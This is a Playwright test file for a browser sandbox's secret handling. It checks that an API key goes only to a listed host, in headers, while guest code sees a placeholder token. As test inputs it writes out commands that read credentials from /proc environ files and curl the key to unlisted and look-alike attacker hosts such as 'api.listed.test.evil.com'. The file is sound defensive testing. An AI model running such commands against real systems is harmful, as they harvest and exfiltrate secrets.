// Host-held secrets in Chromium (issue 19, item 3; the Node side:
// test/security/secrets.test.ts). The kernel worker's fetch() gets the value
// only in headers bound for a listed host: requests the page routes
// (Playwright route(), public names, no network) record what they carried —
// an unlisted host, a look-alike name, the value's token in URL and body, a
// redirect the browser would follow itself under network 'all' (it must not:
// it would carry the header on), an echoing server. BrowserVM: the policy
// crosses from Node to the page, and a local server on 127.0.0.1 (CORS) gets
// the value while the guest reads only the token. <agentos-terminal>: its
// `secrets` property (not an attribute) reaches the kernel the same way.
// Run: npm run build && AGENTOS_E2E_PORT=4304 npx playwright test e2e/security-secrets.spec.ts

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { expect, test, type Page, type Request } from '@playwright/test';
import type { Policy } from '../src/host/api/agent-vm.js';
import { BrowserVM } from '../src/host/playwright/index.js';
import { serveStatic } from '../src/host/playwright/static-server.js';
import type { AgentosTerminalElement } from '../src/ui/component/agentos-terminal.js';

const VALUE = 'sk-REAL-browser-5e8d1c7a90b2';
const TOKEN = /aos-secret-API_KEY-[0-9a-f]{32}/;
const CORS = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': '*', 'Access-Control-Expose-Headers': '*' };

interface Seen {
  host: string;
  url: string;
  headers: string;
  body: string;
}

/** Route every request to *.test and *.com: record it, then answer (echo, or a redirect). */
async function routed(page: Page, seen: Seen[]): Promise<void> {
  await page.route(/^https:\/\/[^/]*\.(test|com)(\/|$)/, async (route, req: Request) => {
    if (req.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: CORS });
    const url = new URL(req.url());
    const headers = Object.entries(await req.allHeaders()).map(([k, v]) => `${k}: ${v}`).join('\n');
    seen.push({ host: url.hostname, url: req.url(), headers, body: req.postData() ?? '' });
    if (url.pathname === '/redirect') return route.fulfill({ status: 302, headers: { ...CORS, Location: url.searchParams.get('to') ?? '/' } });
    const echo = `${req.method()} ${req.url()}\n${headers}\n${req.postData() ?? ''}\n`;
    return route.fulfill({ status: 200, headers: { ...CORS, 'Content-Type': 'text/plain', 'X-Echo-Key': (await req.allHeaders())['x-api-key'] ?? '' }, body: echo });
  });
  await page.goto('/e2e/harness/');
  await page.waitForFunction(() => window.__agentos !== undefined);
}

function policy(network: Policy['network']): Policy {
  return { secrets: { API_KEY: { value: VALUE, hosts: ['api.listed.test'] } }, network };
}

const ALLOW = { allow: ['api.listed.test', 'other.test', 'api.listed.test.evil.com'] };

test('security-secrets (browser): the listed host alone gets the value, in headers only; the guest sees the token', async ({ page }) => {
  const seen: Seen[] = [];
  await routed(page, seen);
  const cmds = [
    'echo "$API_KEY"; cat /proc/self/environ | tr "\\0" "\\n" | grep API_KEY',
    'curl -s -i -H "x-api-key: $API_KEY" https://api.listed.test/echo',
    'curl -s -H "X-API-KEY: $API_KEY" https://API.Listed.TEST/echo',
    'curl -s -H "x-api-key: $API_KEY" https://other.test/echo',
    'curl -s -H "x-api-key: $API_KEY" https://api.listed.test.evil.com/echo',
    'curl -s -H "x-api-key: $API_KEY" "https://api.listed.test/q/$API_KEY?k=$API_KEY" -d "body=$API_KEY"',
    `node -e 'fetch("https://api.listed.test/echo",{headers:{"x-api-key":process.env.API_KEY}}).then(r=>r.text()).then(console.log)'`,
  ];
  const { results, audit: events } = await page.evaluate(([p, c]) => window.__agentos.policyRun(p, {}, c), [policy(ALLOW), cmds] as const);
  const audit = JSON.stringify(events);
  const out = results.map((r) => r.stdout + r.stderr).join('\n');
  results.forEach((r, i) => expect.soft(r.exitCode, cmds[i]).toBe(0));
  expect(results[0].stdout).toMatch(new RegExp(`^${TOKEN.source}\nAPI_KEY=${TOKEN.source}\n$`));
  const to = (host: string) => seen.filter((s) => s.host === host);
  // Positive: the listed host (any case) gets the value in the header, the echo comes back masked.
  expect(to('api.listed.test').filter((s) => s.headers.includes(`x-api-key: ${VALUE}`))).toHaveLength(4);
  expect(results[1].stdout).toMatch(new RegExp(`x-echo-key: ${TOKEN.source}`, 'i'));
  expect(results[6].stdout).toMatch(TOKEN);
  // The others get the token; the value is in no URL, no body, nothing another host saw.
  for (const s of [...to('other.test'), ...to('api.listed.test.evil.com')]) expect(s.headers).toMatch(TOKEN);
  expect(to('other.test')).toHaveLength(1);
  expect(to('api.listed.test.evil.com')).toHaveLength(1);
  for (const s of seen) {
    expect(s.url).not.toContain(VALUE);
    expect(s.body).not.toContain(VALUE);
    if (s.host !== 'api.listed.test') expect(s.headers).not.toContain(VALUE);
  }
  expect(out).not.toContain(VALUE);
  expect(audit).not.toContain(VALUE);
});

test("security-secrets (browser): under network 'all' a redirect from the listed host is not followed by the browser with the value", async ({ page }) => {
  const seen: Seen[] = [];
  await routed(page, seen);
  // The browser follows redirects itself under 'all' (and sends custom headers on); the kernel tells it not to for a request carrying a value.
  const target = encodeURIComponent(`http://127.0.0.1:${port}/hop`);
  const before = local.length;
  const cmds = [
    `curl -s -H "x-api-key: $API_KEY" "https://api.listed.test/redirect?to=${target}"; echo " exit $?"`,
    // Without a value in it, the browser follows as before.
    `curl -s -L -H "x-api-key: plain" "https://api.listed.test/redirect?to=${target}"`,
  ];
  const { results } = await page.evaluate(([p, c]) => window.__agentos.policyRun(p, {}, c), [policy('all'), cmds] as const);
  expect(seen.filter((s) => s.host === 'api.listed.test')[0].headers).toContain(VALUE);
  const hops = local.slice(before);
  expect(hops.map((s) => s.headers).join('\n')).not.toContain(VALUE);
  expect(hops).toHaveLength(1);
  expect(results[1].stdout).toBe('you sent: plain\n');
  expect(results[0].stdout + results[0].stderr).not.toContain(VALUE);
});

let server: Server;
let port = 0;
const local: Seen[] = [];

test.beforeAll(async () => {
  server = createServer((req, res) => {
    if (req.method === 'OPTIONS') return void (res.writeHead(204, CORS), res.end());
    local.push({ host: req.headers.host ?? '', url: req.url ?? '', headers: req.rawHeaders.join('\n'), body: '' });
    res.writeHead(200, { ...CORS, 'Content-Type': 'text/plain' });
    res.end(`you sent: ${req.headers['x-api-key'] ?? ''}\n`);
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  port = (server.address() as AddressInfo).port;
});

test.afterAll(() => new Promise<void>((ok) => (server.closeAllConnections(), server.close(() => ok()))));

test('security-secrets (BrowserVM): the policy crosses to the page; 127.0.0.1 gets the value, localhost the token', async ({ browser, baseURL }) => {
  const vm = new BrowserVM({
    browser,
    appUrl: baseURL,
    policy: { secrets: { API_KEY: { value: VALUE, hosts: ['127.0.0.1'] } }, network: { allow: [`127.0.0.1:${port}`, `localhost:${port}`] } },
  });
  await vm.start();
  try {
    const env = await vm.exec('echo "$API_KEY"; cat /proc/*/environ | tr "\\0" "\\n" | grep -c API_KEY=');
    expect(env.stdout).toMatch(TOKEN);
    const listed = await vm.exec(`curl -sS -H "x-api-key: $API_KEY" http://127.0.0.1:${port}/`);
    expect(listed.stderr).toBe('');
    expect(listed.stdout).toMatch(new RegExp(`^you sent: ${TOKEN.source}\n$`));
    const other = await vm.exec(`curl -sS -H "x-api-key: $API_KEY" http://localhost:${port}/`);
    expect(other.stdout).toMatch(TOKEN);
    expect(local.filter((s) => s.host.startsWith('127.0.0.1')).map((s) => s.headers).join()).toContain(VALUE);
    expect(local.filter((s) => s.host.startsWith('localhost')).map((s) => s.headers).join()).not.toContain(VALUE);
    expect(env.stdout + listed.stdout + other.stdout + other.stderr).not.toContain(VALUE);
    expect(JSON.stringify(await vm.audit())).not.toContain(VALUE);
  } finally {
    await vm.stop();
  }
});

test('security-secrets (<agentos-terminal>): the secrets property, kept out of the DOM, reaches the kernel', async ({ page }) => {
  const site = await serveStatic({
    root: fileURLToPath(new URL('../dist/web/', import.meta.url)), prefix: '/vendor/agentos/', isolate: true, pages: {
      '/site/page.html': `<!doctype html><html><head><meta charset="utf-8"><title>host</title></head><body>
<script type="module" src="/vendor/agentos/agentos-terminal.js"></script></body></html>`,
    },
  });
  try {
    await page.goto(`${site.url}/site/page.html`);
    const before = local.length;
    const r = await page.evaluate(async ([value, p]) => {
      await customElements.whenDefined('agentos-terminal');
      const el = document.createElement('agentos-terminal') as AgentosTerminalElement;
      el.secrets = { API_KEY: { value, hosts: ['127.0.0.1'] } };
      el.setAttribute('network', `127.0.0.1:${p}`);
      el.setAttribute('rows', '4');
      document.body.append(el);
      await el.start();
      const env = await el.vm.exec('echo "$API_KEY"');
      const sent = await el.vm.exec(`curl -sS -H "x-api-key: $API_KEY" http://127.0.0.1:${p}/`);
      return { env: env.stdout, sent: sent.stdout + sent.stderr, dom: document.body.outerHTML };
    }, [VALUE, port] as const);
    expect(r.env).toMatch(TOKEN);
    expect(r.sent).toMatch(new RegExp(`^you sent: ${TOKEN.source}\n$`));
    expect(local.slice(before).map((s) => s.headers).join()).toContain(VALUE);
    expect(r.env + r.sent + r.dom).not.toContain(VALUE);
  } finally {
    await site.close();
  }
});

test('security-secrets (playground): a key saved in the Keys panel is a host-held secret after a reload', async ({ page }) => {
  const open = async () => {
    await page.goto('/?vm=');
    await page.waitForFunction(() => window.agentos !== undefined, null, { timeout: 20_000 });
    await page.evaluate(() => window.agentos.ready);
  };
  await open();
  await page.locator('#tab-keys').click();
  const keys = page.locator('#keys');
  await keys.getByLabel('Variable name').fill('API_KEY');
  await keys.getByLabel('Hosts (commas)').fill('https://127.0.0.1');
  await keys.getByLabel('Key', { exact: true }).fill(VALUE);
  await keys.getByRole('button', { name: 'Save key' }).click();
  await expect(keys.locator('p[role=status]')).toContainText('is not a host name');
  await keys.getByLabel('Hosts (commas)').fill('127.0.0.1');
  await keys.getByRole('button', { name: 'Save key' }).click();
  await expect(keys.locator('li[data-name="API_KEY"]')).toContainText('127.0.0.1');
  await open();
  const before = local.length;
  const r = await page.evaluate(async (p) => {
    const env = await window.agentos.exec('echo "$API_KEY"');
    const sent = await window.agentos.exec(`curl -sS -H "x-api-key: $API_KEY" http://127.0.0.1:${p}/`);
    return { env: env.stdout, sent: sent.stdout + sent.stderr, dom: document.body.outerHTML };
  }, port);
  expect(r.env).toMatch(TOKEN);
  expect(r.sent).toMatch(new RegExp(`^you sent: ${TOKEN.source}\n$`));
  expect(local.slice(before).map((s) => s.headers).join()).toContain(VALUE);
  expect(r.env + r.sent + r.dom).not.toContain(VALUE);
  // Removed, it is gone from the next VM.
  await page.locator('#tab-keys').click();
  await page.locator('#keys li[data-name="API_KEY"]').getByRole('button', { name: 'Remove' }).click();
  await open();
  expect((await page.evaluate(() => window.agentos.exec('echo "[$API_KEY]"'))).stdout).toBe('[]\n');
});
